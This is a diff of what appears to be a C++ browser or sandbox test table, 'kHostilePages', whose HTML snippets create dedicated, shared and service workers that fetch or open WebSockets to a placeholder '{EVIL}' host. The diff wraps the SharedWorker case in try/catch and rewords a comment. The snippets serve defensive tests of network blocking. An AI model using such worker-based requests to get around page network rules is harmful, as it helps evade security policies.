@@ -63,10 +63,10 @@ constexpr HostilePage kHostilePages[] = {
      "fetch('http://{EVIL}/worker', {mode: 'no-cors'}), new Promise(done => "
      "new WebSocket('ws://{EVIL}/worker/w').onclose = done)]).then(() => postMessage(''))`])))"
      ".onmessage = tried</script>"},
-    // Under rules none runs, whatever they allow.
+    // There are none, whatever the rules allow.
     {"sharedworker",
-     "<script>new SharedWorker(URL.createObjectURL(new Blob(["
-     "`fetch('http://{EVIL}/sharedworker', {mode: 'no-cors'})`]))); tried()</script>",
+     "<script>try {new SharedWorker(URL.createObjectURL(new Blob(["
+     "`fetch('http://{EVIL}/sharedworker', {mode: 'no-cors'})`])))} catch {} tried()</script>",
      Way::kClosed},
     // Where there are service workers, the worker says it.
     {"serviceworker",
